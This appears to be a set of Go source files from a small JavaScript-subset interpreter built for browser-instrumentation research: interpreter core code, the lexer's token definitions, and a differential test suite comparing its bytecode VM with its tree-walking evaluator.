	// EvalHook, when set, observes every dynamically evaluated source text.
	EvalHook func(src string)

	// ConsoleLog collects console.log/warn/error output.
	ConsoleLog []string

	// NoVM forces tree-walking evaluation even for compiled programs —
	// the `-vm=off` escape hatch used by the differential parity tests.
	NoVM bool

	stack    []Frame // preallocated; never reallocates (maxDepth bound)
	steps    int64
	allocs   int64 // objects allocated through the it.New* helpers
	maxDepth int
	root     *Scope
	curThis  Value      // dynamic `this` for the running script function
	rng      *rand.Rand // backs Math.random; deterministic per realm

	// Bytecode VM state: a shared value stack (vs/vsp) and a free list of
	// pooled scopes for closure-free functions and blocks.
	vs        []Value
	vsp       int
	scopeFree []*Scope
	lastVal   Value // toplevel completion value register

	// Per-realm inline-cache tables, keyed by compiled Code. Codes are
	// shared across visits via the script cache, so realm-local object
	// pointers live here rather than on the Code itself.
	icTabs     map[*Code][]icEntry
	lastICCode *Code
	lastICs    []icEntry

	// Bump arenas for realm-lifetime allocations (see arena.go).
	objArena   []Object
	fnArena    []funcObject
	scopeArena []Scope
	nameArena  []string
	valArena   []Value
}

// Reseed re-seeds the realm's Math.random generator.
func (it *Interp) Reseed(seed int64) { it.rng = rand.New(rand.NewSource(seed)) }

// Scope is a lexical environment. The root scope of a realm is backed by the
// global object itself: top-level var declarations become global properties.
// Bindings live in parallel slices — scopes are small, and linear scans beat
// a map allocation per call.
type Scope struct {
	names  []string
	vals   []Value
	parent *Scope
	global *Object // set only on the root scope
	pooled bool    // VM-pooled scope; recycled on exit (never captured)
}

// NewScope returns a child scope of parent.
func NewScope(parent *Scope) *Scope {
	return &Scope{parent: parent}
}

// newScopeCap returns a child scope presized for n bindings.
func newScopeCap(parent *Scope, n int) *Scope {
	return &Scope{parent: parent, names: make([]string, 0, n), vals: make([]Value, 0, n)}
}

// slot returns a pointer to the binding named name in this exact scope.
// The pointer is only valid until the next declare on this scope.
func (s *Scope) slot(name string) *Value {
	for i := len(s.names) - 1; i >= 0; i-- {
		if s.names[i] == name {
			return &s.vals[i]
		}
	}
	return nil
}

// declare creates a binding in this scope (or the global object for the root).
func (s *Scope) declare(name string, v Value) {
	if s.global != nil {
		s.global.Set(name, v)
		return
	}
	if p := s.slot(name); p != nil {
		*p = v
		return
	}
	s.names = append(s.names, name)
	s.vals = append(s.vals, v)
}

// New creates an interpreter with a fresh global object populated with the
// standard built-ins (Object, Array, Error, Math, JSON, parseInt, …).
func New() *Interp {
	it := &Interp{maxDepth: 200}
	it.stack = make([]Frame, 0, it.maxDepth+32)
	it.Protos.Object = &Object{Class: "Object", props: map[string]*Property{}}
	it.Protos.Function = NewObject(it.Protos.Object)
	it.Protos.Function.Class = "Function"
	it.Protos.Array = NewObject(it.Protos.Object)
	it.Protos.Error = NewObject(it.Protos.Object)
	it.Protos.Error.Class = "Error"
	it.Protos.String = NewObject(it.Protos.Object)
	it.Protos.Number = NewObject(it.Protos.Object)
	it.Protos.Boolean = NewObject(it.Protos.Object)
	it.Global = NewObject(it.Protos.Object)
	it.Global.Class = "Window"
	it.root = &Scope{global: it.Global}
	installBuiltins(it)
	return it
}

// NewObjectP returns a plain object using this realm's Object.prototype.
func (it *Interp) NewObjectP() *Object {
	it.allocs++
	o := it.allocObject()
	o.Class = "Object"
	o.Proto = it.Protos.Object
	return o
}

// NewArrayP returns an array using this realm's Array.prototype.
func (it *Interp) NewArrayP(elems ...Value) *Object {
	it.allocs++
	a := it.allocObject()
	a.Class = "Array"
	a.Proto = it.Protos.Array
	if len(elems) > 0 {
		a.Elems = append(it.carveVals(len(elems)), elems...)
	}
	return a
}

// NewNative wraps a Go function as a callable JS object. Its toString
// reports `[native code]` under the given name.
func (it *Interp) NewNative(name string, fn NativeFunc) *Object {
	it.allocs++
	f := it.allocFunc()
	f.Class = "Function"
	f.Proto = it.Protos.Function
	f.fd.Native = fn
	f.fd.NativeName = name
	f.fnd = &f.fd
	return &f.Object
}

// NewError constructs an Error object of the given name with a captured
// stack trace.
func (it *Interp) NewError(name, msg string) *Object {
	it.allocs++
	e := it.allocObject()
	e.Class = "Error"
	e.Proto = it.Protos.Error
	e.Set("name", String(name))
	e.Set("message", String(msg))
	e.Set("stack", String(it.CaptureStack()))
	return e
}

// ThrowError returns a Go error carrying a fresh JS Error.
func (it *Interp) ThrowError(name, format string, args ...any) error {
	e := it.NewError(name, fmt.Sprintf(format, args...))
	return &Throw{Value: ObjectValue(e), Stack: it.CaptureStack()}
}

// CaptureStack renders the current call stack Firefox-style, innermost first.
func (it *Interp) CaptureStack() string {
	b := make([]byte, 0, 64*len(it.stack))
	for i := len(it.stack) - 1; i >= 0; i-- {
		b = it.stack[i].appendTo(b)
	}
	return string(b)
}

// StackDepth reports the current JS call-stack depth.
func (it *Interp) StackDepth() int { return len(it.stack) }

// Steps reports AST nodes evaluated since the last RunProgram entry (the
// counter resets per program, so after a run this is that program's cost).
func (it *Interp) Steps() int64 { return it.steps }

// Allocs reports objects allocated through the interpreter's constructors
// over the realm's lifetime; callers interested in one program take deltas.
func (it *Interp) Allocs() int64 { return it.allocs }

// pushFrame appends a frame to the preallocated stack and returns a pointer
// to it; the pointer stays valid until the frame is popped (the stack's
// backing array never reallocates thanks to the depth limit).
func (it *Interp) pushFrame(f Frame) *Frame {
	if len(it.stack) == cap(it.stack) {
		// should be unreachable: CallFunction enforces maxDepth first
		panic("minjs: frame stack overflow")
	}
	it.stack = append(it.stack, f)
	return &it.stack[len(it.stack)-1]
}

func (it *Interp) popFrame() { it.stack = it.stack[:len(it.stack)-1] }

// CurrentScript returns the script name of the innermost non-native frame —
// the script whose code is executing right now.
func (it *Interp) CurrentScript() string {
	for i := len(it.stack) - 1; i >= 0; i-- {
		if it.stack[i].Script != "native" {
			return it.stack[i].Script
		}
	}
	return ""
}

func (it *Interp) step() error {
	it.steps++
	limit := it.StepLimit
	if limit == 0 {
		limit = 5_000_000
	}
	if it.steps > limit {
		return &InterruptError{Reason: "step limit exceeded"}
	}
	return nil
}

// RunProgram executes a parsed program at the top level of the realm.
// It resets the step counter, so each program gets a fresh budget.
func (it *Interp) RunProgram(prog *Program) (Value, error) {
	if prog.compiled != nil && !it.NoVM {
		return it.runProgramVM(prog)
	}
	it.steps = 0
	frame := it.pushFrame(Frame{FnName: "<toplevel>", Script: prog.Name, Line: 1})
	defer it.popFrame()
	it.hoist(prog.Body, it.root)
	var last Value
	for _, st := range prog.Body {
		v, err := it.evalStmt(st, it.root, frame)
		if err != nil {
			if rs, ok := err.(*returnSignal); ok {
				return rs.val, nil
			}
			return Undefined(), err
		}
		last = v
	}
	return last, nil
}

// RunScript parses and executes src.
func (it *Interp) RunScript(src, name string) (Value, error) {
	prog, err := Parse(src, name)
	if err != nil {
		return Undefined(), err
	}
	return it.RunProgram(prog)
}

// hoist pre-declares function declarations in a statement list.
func (it *Interp) hoist(body []Node, sc *Scope) {
	for _, st := range body {
		if fd, ok := st.(*FuncDecl); ok {
			fn := it.makeFunction(fd.Fn, sc)
			sc.declare(fd.Fn.Name, ObjectValue(fn))
		}
	}
}

// makeFunction instantiates a function object closing over sc. The "name",
// "length" and "prototype" properties materialise lazily on first access
// (see Interp.functionIntrinsic): most functions never have them read, and
// page instrumentation creates hundreds of wrappers per document.
func (it *Interp) makeFunction(lit *FuncLit, sc *Scope) *Object {
	it.allocs++
	f := it.allocFunc()
	f.Class = "Function"
	f.Proto = it.Protos.Function
	f.fd.Fn = lit
	f.fd.Env = sc
	f.fnd = &f.fd
	return &f.Object
}

// functionIntrinsic resolves the lazily materialised intrinsic properties of
// function objects; called on the property-miss path only.
func (it *Interp) functionIntrinsic(o *Object, key string) (Value, bool) {
	fd := o.fnd
	if fd == nil || (fd.Fn == nil && fd.Native == nil) {
		return Undefined(), false
	}
	switch key {
	case "name":
		if fd.Native != nil {
			return String(fd.NativeName), true
		}
		return String(fd.Fn.Name), true
	case "length":
		if fd.Fn != nil {
			return Int(len(fd.Fn.Params)), true
		}
		return Int(0), true
	case "prototype":
		if fd.Fn == nil || fd.Fn.Arrow {
			return Undefined(), false
		}
		protoObj := it.NewObjectP()
		protoObj.SetNonEnum("constructor", ObjectValue(o))
		o.SetNonEnum("prototype", ObjectValue(protoObj))
		return ObjectValue(protoObj), true
	}
	return Undefined(), false
}

// CallFunction invokes a callable object from the host or the evaluator.
func (it *Interp) CallFunction(fn *Object, this Value, args []Value) (Value, error) {
	var fd *fnData
	if fn != nil {
		fd = fn.fnd
	}
	if fd == nil || (fd.Fn == nil && fd.Native == nil) {
		return Undefined(), it.ThrowError("TypeError", "value is not a function")
	}
	if len(it.stack) >= it.maxDepth {
		return Undefined(), it.ThrowError("InternalError", "too much recursion")
	}
	if fd.Native != nil {
		it.pushFrame(Frame{FnName: fd.NativeName, Script: "native"})
		defer it.popFrame()
		return fd.Native(it, this, args)
	}
	lit := fd.Fn
	if lit.Arrow || fd.HasThisVal {
		this = fd.ThisVal
	}
	if lit.compiled != nil && !it.NoVM {
		return it.callCompiled(lit, fn, this, args)
	}
	sc := it.newScopeIn(fd.Env, len(lit.Params)+2)
	for i, p := range lit.Params {
		if i < len(args) {
			sc.declare(p, args[i])
		} else {
			sc.declare(p, Undefined())
		}
	}
	if lit.UsesArguments {
		sc.declare("arguments", ObjectValue(it.NewArrayP(args...)))
	}
	frame := it.pushFrame(Frame{FnName: lit.Name, Script: lit.Script, Line: lit.Line})
	defer it.popFrame()
	it.hoist(lit.Body, sc)
	savedThis := it.curThis
	it.curThis = this
	defer func() { it.curThis = savedThis }()
	for _, st := range lit.Body {
		if _, err := it.evalStmt(st, sc, frame); err != nil {
			if rs, ok := err.(*returnSignal); ok {
				return rs.val, nil
			}
			return Undefined(), err
		}
	}
	return Undefined(), nil
}

// Construct implements `new fn(args)`.
func (it *Interp) Construct(fn *Object, args []Value) (Value, error) {
	if fn == nil || fn.fnd == nil || (fn.fnd.Fn == nil && fn.fnd.Native == nil) {
		return Undefined(), it.ThrowError("TypeError", "value is not a constructor")
	}
	proto := it.Protos.Object
	if pv, err := it.GetMember(ObjectValue(fn), "prototype"); err == nil && pv.IsObject() {
		proto = pv.Obj
	}
	obj := NewObject(proto)
	res, err := it.CallFunction(fn, ObjectValue(obj), args)
	if err != nil {
		return Undefined(), err
	}
	if res.IsObject() {
		return res, nil
	}
	return ObjectValue(obj), nil
}

// curThis tracks the dynamic this for non-arrow script functions.
// (Field kept on Interp because evaluation is single-threaded per realm.)
