// Package minjs implements a small JavaScript-subset interpreter.
//
// The subset is chosen to cover everything the OpenWPM reliability study
// exercises at the JavaScript object-model level: property descriptors with
// getters and setters, prototype chains, closures, Function.prototype.toString,
// for…in enumeration, try/catch with Error stack traces, eval, and a host
// function bridge through which a browser object model (package jsdom) is
// exposed. It is a tree-walking interpreter: scripts are parsed into an AST
// once (ASTs are safe for reuse across interpreter instances) and evaluated
// against a Realm holding the global object.
package minjs

import "fmt"

// TokenKind enumerates lexical token categories.
type TokenKind int

// Token kinds.
const (
	TokEOF TokenKind = iota
	TokIdent
	TokNumber
	TokString
	TokPunct   // operators and punctuation
	TokKeyword // reserved words
)

// Token is a single lexical token with its source position.
type Token struct {
	Kind TokenKind
	Text string // identifier name, punctuation, keyword, or decoded string value
	Num  float64
	Pos  int // byte offset of the token start
	Line int // 1-based line number
}

func (t Token) String() string {
	switch t.Kind {
	case TokEOF:
		return "<eof>"
	case TokString:
		return fmt.Sprintf("%q", t.Text)
	case TokNumber:
		return fmt.Sprintf("%v", t.Num)
	default:
		return t.Text
	}
}

var keywords = map[string]bool{
	"var": true, "let": true, "const": true, "function": true, "return": true,
	"if": true, "else": true, "for": true, "while": true, "do": true,
	"break": true, "continue": true, "new": true, "delete": true,
	"typeof": true, "instanceof": true, "in": true, "of": true,
	"try": true, "catch": true, "finally": true, "throw": true,
	"true": true, "false": true, "null": true, "undefined": true,
	"this": true, "switch": true, "case": true, "default": true,
}

// isIdentStart reports whether c can start an identifier.
func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

// isIdentPart reports whether c can continue an identifier.
func isIdentPart(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isHexDigit(c byte) bool {
	return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}
