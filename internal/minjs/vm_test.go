package minjs

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

// diffOutcome captures everything observable about one program run: the
// completion value, the error string, the step and alloc counters that end
// up embedded in crawl artifacts, console output, and the full property-
// access hook sequence (the ground-truth oracle the analysis layer feeds
// on). VM and tree-walker must agree on all of it, bit for bit.
type diffOutcome struct {
	val    string
	errStr string
	steps  int64
	allocs int64
	logs   string
	hooks  string
}

func runEngine(t *testing.T, src string, novm bool) diffOutcome {
	t.Helper()
	prog, err := Parse(src, "diff.js")
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	Compile(prog)
	if prog.compiled == nil {
		t.Fatalf("compiler bailed out on supported input:\n%s", src)
	}
	it := New()
	it.NoVM = novm
	var hooks strings.Builder
	it.PropAccessHook = func(owner *Object, key string) {
		hooks.WriteString(owner.Class)
		hooks.WriteByte('.')
		hooks.WriteString(key)
		hooks.WriteByte('\n')
	}
	v, rerr := it.RunProgram(prog)
	o := diffOutcome{
		steps:  it.Steps(),
		allocs: it.Allocs(),
		logs:   strings.Join(it.ConsoleLog, "\n"),
		hooks:  hooks.String(),
	}
	if rerr != nil {
		o.errStr = rerr.Error()
	}
	o.val = v.TypeOf() + ":" + v.ToString()
	return o
}

// diffRun executes src on both engines and fails on any observable delta.
func diffRun(t *testing.T, src string) {
	t.Helper()
	tree := runEngine(t, src, true)
	vm := runEngine(t, src, false)
	if tree.val != vm.val {
		t.Errorf("value mismatch\n tree: %s\n   vm: %s\nsrc:\n%s", tree.val, vm.val, src)
	}
	if tree.errStr != vm.errStr {
		t.Errorf("error mismatch\n tree: %q\n   vm: %q\nsrc:\n%s", tree.errStr, vm.errStr, src)
	}
	if tree.steps != vm.steps {
		t.Errorf("steps mismatch tree=%d vm=%d\nsrc:\n%s", tree.steps, vm.steps, src)
	}
	if tree.allocs != vm.allocs {
		t.Errorf("allocs mismatch tree=%d vm=%d\nsrc:\n%s", tree.allocs, vm.allocs, src)
	}
	if tree.logs != vm.logs {
		t.Errorf("console mismatch\n tree: %q\n   vm: %q\nsrc:\n%s", tree.logs, vm.logs, src)
	}
	if tree.hooks != vm.hooks {
		t.Errorf("prop-access mismatch\n tree:\n%s\n vm:\n%s\nsrc:\n%s", tree.hooks, vm.hooks, src)
	}
}

// vmCorpus exercises every statement and expression form plus the
// tree-walker quirks the VM must replicate exactly.
var vmCorpus = []string{
	// literals, arithmetic, completion values
	`42`,
	`"a" + 1 + true + null + undefined`,
	`1 + 2 * 3 - 4 / 5 % 6`,
	`-0`,
	`0/0`,
	`1/0`,
	`~5 ^ 3 | 9 & 12`,
	`1 << 3 >> 1 >>> 2`,
	`"b" < "a"`,
	`"10" < 9`,
	`5 == "5"`,
	`5 === "5"`,
	`null == undefined`,
	`null === undefined`,
	`var x; x`,
	`var x = 1, y = 2; x + y`,
	// identifiers, scope, globals
	`var a = 1; { var b = 2; a + b }`,
	`function f(){ var q = 9; return q } f()`,
	`u = 5; u`,
	`typeof nope`,
	`typeof typeof nope`,
	`var t = typeof 3; t + typeof "s" + typeof null + typeof {} + typeof [] + typeof f; function f(){}`,
	`x = 1; delete x`,
	`var o = {a: 1}; delete o.a; o.a`,
	`var o = {a: 1}; delete o["a"]; "a" in o`,
	// strings and arrays
	`var s = "hello"; s.length + s[1] + s.charAt(4)`,
	`var a = [1,2,3]; a[0] + a[2] + a.length`,
	`var a = []; a[4] = 1; a.length`,
	`var a = [1,2,3]; a.length = 1; a.join(",")`,
	`[1,2,3].map(function(x){ return x * 2 }).join("-")`,
	`var a = [5,3,9]; a.sort(); a.join(",")`,
	`"a,b,c".split(",").length`,
	`var a = [1,2]; a.push(3); a.pop() + a.length`,
	`[1,2,3][1.5] === undefined`,
	`var a = [7]; a["0"] + a[0]`,
	`var a = [1]; a[-1] === undefined`,
	// objects, prototypes, accessors
	`var o = {a: 1, b: {c: 2}}; o.a + o.b.c`,
	`var o = {}; o.x = 1; o["y"] = 2; o.x + o.y`,
	`var p = {greet: function(){ return "hi " + this.name }}; var o = Object.create ? {name:"x"} : {}; o.name = "x"; p.greet.call(o)`,
	`function C(){ this.v = 7 } C.prototype.get = function(){ return this.v }; new C().get()`,
	`function C(){} var c = new C(); c instanceof C`,
	`function C(){ return {v: 1} } new C().v`,
	`var o = {}; Object.defineProperty(o, "x", {get: function(){ return 41 }}); o.x + 1`,
	`var n = 0; var o = {}; Object.defineProperty(o, "x", {set: function(v){ n = v }}); o.x = 9; n`,
	`var o = {a:1}; var r = ""; for (var k in o) r += k; r`,
	`function C(){} C.prototype.p = 1; var c = new C(); c.own = 2; var r = []; for (var k in c) r.push(k); r.sort().join(",")`,
	`var o = {a:1,b:2}; var r = []; for (var k in o) { if (k === "a") continue; r.push(k) } r.join(",")`,
	// member writes and compound assignment
	`var o = {n: 1}; o.n += 2; o.n *= 3; o.n`,
	`var a = [1]; a[0] += 5; a[0]`,
	`var o = {n: 2}; o.n++ + o.n`,
	`var o = {n: 2}; ++o.n + o.n`,
	`var i = 0; i++ + i++ + ++i`,
	`var i = 10; i-- - --i`,
	// control flow
	`var r = 0; if (1) r = 1; r`,
	`var r = 0; if (0) r = 1; else r = 2; r`,
	`if (false) 1`,
	`var i = 0, s = 0; while (i < 5) { s += i; i++ } s`,
	`var i = 0; do { i++ } while (i < 3); i`,
	`var s = 0; for (var i = 0; i < 5; i++) s += i; s`,
	`var s = 0; for (var i = 0; ; i++) { if (i >= 3) break; s += i } s`,
	`var s = ""; for (var i = 0; i < 5; i++) { if (i % 2) continue; s += i } s`,
	`var s = 0; for (;;) { s++; if (s > 2) break } s`,
	`var s = 0; for (var i = 0; i < 3; i++) { for (var j = 0; j < 3; j++) { if (j > i) break; s++ } } s`,
	`var r = ""; for (var c of "abc") r = c + r; r`,
	`var s = 0; for (var v of [1,2,3]) s += v; s`,
	`var s = 0; for (var v of [1,2,3]) { if (v === 2) break; s += v } s`,
	`var s = 0; for (var v of [1,2,3]) { if (v === 2) continue; s += v } s`,
	// switch, including default-in-the-middle and fallthrough
	`var r = ""; switch (2) { case 1: r += "a"; case 2: r += "b"; case 3: r += "c" } r`,
	`var r = ""; switch (9) { case 1: r += "a"; break; default: r += "d" } r`,
	`var r = ""; switch (9) { case 1: r += "a"; default: r += "d"; case 2: r += "b" } r`,
	`var r = ""; switch (2) { case 1: r += "a"; default: r += "d"; case 2: r += "b" } r`,
	`var r = ""; switch (1) { case 1: var z = "z"; r += z } r`,
	`var s = ""; for (var i = 0; i < 4; i++) { switch (i) { case 1: continue; case 2: break; } s += i } s`,
	`var r = 0; switch (3) {} r`,
	// try/catch/finally
	`try { throw 1 } catch (e) { e + 1 }`,
	`var r = ""; try { r += "t"; throw "x" } catch (e) { r += "c" + e } finally { r += "f" } r`,
	`var r = ""; try { r += "t" } finally { r += "f" } r`,
	`function f(){ try { return "t" } finally { return "f" } } f()`,
	`function f(){ try { throw 1 } finally { return "f" } } f()`,
	`var r = ""; for (var i = 0; i < 3; i++) { try { if (i === 1) continue; r += i } finally { r += "f" } } r`,
	`var r = ""; for (var i = 0; i < 9; i++) { try { if (i === 1) break; r += i } finally { r += "f" } } r`,
	`try { null.x } catch (e) { e.name }`,
	`try { undefined.x = 1 } catch (e) { "" + e }`,
	`try { nope() } catch (e) { "" + e }`,
	`try { var o = {}; o.m() } catch (e) { "" + e }`,
	`try { new 5 } catch (e) { "" + e }`,
	`try { throw {name: "E", message: "m"} } catch (e) { e.name + ":" + e.message }`,
	`var r; try { try { throw "inner" } finally { r = "f1" } } catch (e) { r += ":" + e } r`,
	`try { unknownname } catch (e) { e.message }`,
	// functions, closures, recursion, arguments, this
	`function fib(n){ return n < 2 ? n : fib(n-1) + fib(n-2) } fib(12)`,
	`function mk(){ var n = 0; return function(){ n++; return n } } var c = mk(); c(); c(); c()`,
	`function f(){ return arguments.length + ":" + arguments[1] } f(1, "x", 3)`,
	`function outer(){ var fns = []; for (var i = 0; i < 3; i++) { fns.push(function(){ return i }) } return fns } var g = outer(); "" + g[0]() + g[1]() + g[2]()`,
	`var o = {v: 3, m: function(){ var self = this; var f = function(){ return self.v }; return f() }}; o.m()`,
	`var o = {v: 4, m: function(){ var f = () => this.v; return f() }}; o.m()`,
	`var f = function named(){ return typeof named }; var r; try { r = f() } catch (e) { r = "" + e } r`,
	`function f(a, b){ return "" + a + b } f(1)`,
	`var add = function(a, b){ return a + b }; add.call(null, 1, 2) + add.apply(null, [3, 4])`,
	`function f(a, b){ return this.x + a + b } var b = f.bind({x: 10}, 1); b(2)`,
	`function f(){ return g() } function g(){ return "hoisted" } f()`,
	`var r = ""; function f(){ r += "1" } f(); function f(){ r += "2" } f(); r`,
	// logical / conditional / nullish
	`0 || "fallback"`,
	`1 && 2 && 3`,
	`null ?? "dflt"`,
	`0 ?? "dflt"`,
	`var n = 0; function side(){ n++; return 0 } side() || side() || 1; n`,
	`var n = 0; function side(){ n++; return 1 } side() && side(); n`,
	`true ? "y" : "n"`,
	`false ? sideA() : "safe"`,
	// builtins and stdlib behaviour shared by both engines
	`Math.max(1, 9, 3) + Math.min(2, -2) + Math.floor(2.9)`,
	`Math.random() < 1 && Math.random() >= 0`,
	`JSON.stringify({a: [1, "x", null]})`,
	`JSON.parse('{"k": [1,2]}').k[1]`,
	`parseInt("42px") + parseFloat("3.5rest")`,
	`encodeURIComponent("a b") + decodeURIComponent("%41")`,
	`String(123) + Number("45") + Boolean(0)`,
	`"AbC".toLowerCase() + "dEf".toUpperCase()`,
	`[3,1,2].sort(function(a,b){ return a - b }).join("")`,
	`new Error("boom").message`,
	`var e = new TypeError("t"); e.name + ":" + e.message`,
	`Date.now() >= 0`,
	`console.log("one", 2, {k: 1}); console.warn("w"); console.error("e"); "done"`,
	`var s = ""; for (var i = 0; i < 100; i++) s += "x"; s.length`,
	// eval interplay: eval'd code tree-walks, closures it defines are called
	// from compiled code and vice versa
	`eval("var ev = 1; function evf(){ return ev + 1 }"); evf()`,
	`var f = eval("(function(a){ return a * 3 })"); f(5)`,
	// getter/setter side-effect ordering
	`var log = []; var o = {}; Object.defineProperty(o, "p", {get: function(){ log.push("g"); return 1 }, set: function(v){ log.push("s" + v) }}); o.p; o.p = 2; o.p += 3; log.join(",")`,
	`var o = {toString: function(){ return "OBJ" }}; "" + o`,
	// inline-cache invalidation shapes
	`function C(){} C.prototype.p = 1; var c = new C(); var r = c.p; C.prototype.p = 2; r += c.p; c.p = 9; r += c.p; r`,
	`var proto = {p: "a"}; var o = {}; o.q = 1; var r = ""; function read(x){ return x.p } var o2 = {p: "own"}; r += read(o2); delete o2.p; r += read(o2); r`,
	`var a = {p: 1}, b = {p: 2}; function rd(x){ return x.p } rd(a) + rd(b) + rd(a) + rd(b)`,
	`var o = {n: 1}; function rd(){ return o.n } rd(); Object.defineProperty(o, "n", {get: function(){ return 42 }}); rd()`,
	// Object.setPrototypeOf interplay with caches
	`var pa = {p: "A"}, pb = {p: "B"}; var o = {}; Object.setPrototypeOf(o, pa); function rd(){ return o.p } var r = rd(); Object.setPrototypeOf(o, pb); r + rd()`,
	// step-limit behaviour must interrupt identically (low limit set by
	// the host is not expressible here; covered by TestVMStepLimitParity)
	// misc quirks
	`var r = ""; for (var k in "str") r += k; r`,
	`var r = ""; for (var k in 42) r += k; r + "end"`,
	`var s = 0; for (var v of []) s++; s`,
	`var x = 5; x`,
	`;`,
	``,
	`{}`,
	`var obj = {"with spaces": 1, "2": "two"}; obj["with spaces"] + obj[2]`,
	`var a = [1,2,3,4]; a[1e3] === undefined && a["03"] === undefined`,
	`"abc"[10] === undefined`,
	`var o = {}; o[true] = "t"; o[null] = "n"; o["true"] + o["null"]`,
	`var i = 0; var a = [0, 0]; a[i++] = "x"; a[i] = "y"; a.join(",")`,
}

func TestVMDifferentialCorpus(t *testing.T) {
	for i, src := range vmCorpus {
		src := src
		t.Run(fmt.Sprintf("case%03d", i), func(t *testing.T) {
			diffRun(t, src)
		})
	}
}

// TestVMStepLimitParity pins interrupt behaviour: both engines must stop at
// the same step count with the same error.
func TestVMStepLimitParity(t *testing.T) {
	src := `var n = 0; while (true) { n++ }`
	prog := MustParse(src, "limit.js")
	Compile(prog)
	run := func(novm bool) (int64, string) {
		it := New()
		it.NoVM = novm
		it.StepLimit = 10000
		_, err := it.RunProgram(prog)
		if err == nil {
			t.Fatal("expected interrupt")
		}
		return it.Steps(), err.Error()
	}
	ts, te := run(true)
	vs, ve := run(false)
	if ts != vs || te != ve {
		t.Fatalf("interrupt mismatch: tree (%d, %q) vm (%d, %q)", ts, te, vs, ve)
	}
}

// TestVMStringConcatPenaltyParity pins the proportional step cost of large
// string concatenations.
func TestVMStringConcatPenaltyParity(t *testing.T) {
	diffRun(t, `var s = "x"; for (var i = 0; i < 12; i++) { s = s + s } s.length`)
	diffRun(t, `var r; try { var s = "x"; while (true) { s = s + s } } catch (e) { r = "" + e } r`)
}

// TestVMStackTraceParity verifies CaptureStack-visible state (frame names,
// scripts, line numbers) matches, via Error().stack observed in-script.
func TestVMStackTraceParity(t *testing.T) {
	diffRun(t, `function inner(){ return new Error("x").stack }
function outer(){ return inner() }
outer()`)
	diffRun(t, `var st; try { (function bad(){ null.x })() } catch (e) { st = e.stack } st`)
}

// TestVMCompletionValues pins the toplevel completion-value register against
// the tree-walker's `last` tracking, including clears for non-expression
// statements.
func TestVMCompletionValues(t *testing.T) {
	cases := []string{
		`1; 2; 3`,
		`1; var x = 9`,
		`1; if (true) 2`,
		`1; if (false) 2`,
		`1; if (false) 2; else 3`,
		`5; while (false) {}`,
		`5; { 6; 7 }`,
		`5; {}`,
		`5; try { 6 } finally {}`,
		`5; for (var i = 0; i < 2; i++) 9`,
		`5; function f(){}`,
		`5; switch (1) { case 1: 8 }`,
	}
	for _, src := range cases {
		diffRun(t, src)
	}
}

// TestVMToplevelBreakLeak pins the bug-compat behaviour where a toplevel
// break/continue leaks the internal sentinel error out of RunProgram.
func TestVMToplevelBreakLeak(t *testing.T) {
	for _, src := range []string{`break`, `continue`} {
		prog := MustParse(src, "leak.js")
		Compile(prog)
		tIt := New()
		tIt.NoVM = true
		_, treeErr := tIt.RunProgram(prog)
		vIt := New()
		_, vmErr := vIt.RunProgram(prog)
		if fmt.Sprint(treeErr) != fmt.Sprint(vmErr) {
			t.Fatalf("%q: tree err %v, vm err %v", src, treeErr, vmErr)
		}
	}
}

// TestVMSharedCodeConcurrent runs one compiled Program on many interpreters
// concurrently — the shared-cache shape. Codes must be immutable at runtime
// (inline caches live per-realm), so this is race-detector food.
func TestVMSharedCodeConcurrent(t *testing.T) {
	src := `
function C(){ this.v = 1 }
C.prototype.bump = function(){ this.v += 1; return this.v };
var c = new C();
var s = 0;
for (var i = 0; i < 200; i++) { s += c.bump(); s += [i, i+1][1]; }
var o = {a: 1, b: 2}; for (var k in o) { s += o[k] }
try { null.x } catch (e) { s += e.name.length }
s`
	prog := MustParse(src, "conc.js")
	Compile(prog)
	want := runEngine(t, src, true)
	var wg sync.WaitGroup
	errs := make(chan string, 16)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				it := New()
				v, err := it.RunProgram(prog)
				if err != nil {
					errs <- fmt.Sprintf("run error: %v", err)
					return
				}
				got := v.TypeOf() + ":" + v.ToString()
				if got != want.val {
					errs <- fmt.Sprintf("value mismatch: %s vs %s", got, want.val)
					return
				}
				if it.Steps() != want.steps {
					errs <- fmt.Sprintf("steps mismatch: %d vs %d", it.Steps(), want.steps)
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Fatal(e)
	}
}

// TestVMScopePoolingReuse hammers pooled call scopes through deep recursion
// with interleaved closures (unpoolable) to catch recycled-scope corruption.
func TestVMScopePoolingReuse(t *testing.T) {
	diffRun(t, `
function leafA(n){ var a = n + 1; var b = a * 2; return a + b }
function leafB(n){ var x = leafA(n); var y = leafA(x); return x + y }
function withClosure(n){ var cap = n; return function(){ return cap + leafB(n) } }
var total = 0;
for (var i = 0; i < 50; i++) {
  total += leafB(i);
  var f = withClosure(i);
  total += f();
  if (i % 7 === 0) { var blk = 0; { var q = i * 2; blk += q } total += blk }
}
total`)
}

// TestVMQuickExpressions drives random arithmetic/comparison expression
// trees through both engines.
func TestVMQuickExpressions(t *testing.T) {
	ops := []string{"+", "-", "*", "/", "%", "<", ">", "<=", ">=", "==", "===", "!=", "!==", "&", "|", "^", "<<", ">>", ">>>", "&&", "||"}
	f := func(seeds []uint32) bool {
		if len(seeds) == 0 {
			return true
		}
		var build func(depth int, idx *int) string
		build = func(depth int, idx *int) string {
			s := seeds[*idx%len(seeds)]
			*idx++
			if depth >= 4 || s%5 == 0 {
				switch s % 4 {
				case 0:
					return fmt.Sprintf("%d", s%100)
				case 1:
					return fmt.Sprintf("%d.5", s%10)
				case 2:
					return fmt.Sprintf("\"s%d\"", s%7)
				default:
					return []string{"true", "false", "null", "undefined"}[s%4]
				}
			}
			op := ops[int(s)%len(ops)]
			return "(" + build(depth+1, idx) + " " + op + " " + build(depth+1, idx) + ")"
		}
		i := 0
		src := "var r = " + build(0, &i) + "; \"\" + r"
		tree := runEngine(t, src, true)
		vm := runEngine(t, src, false)
		if tree != vm {
			t.Logf("src=%s\ntree=%+v\nvm=%+v", src, tree, vm)
			return false
		}
		return true
	}
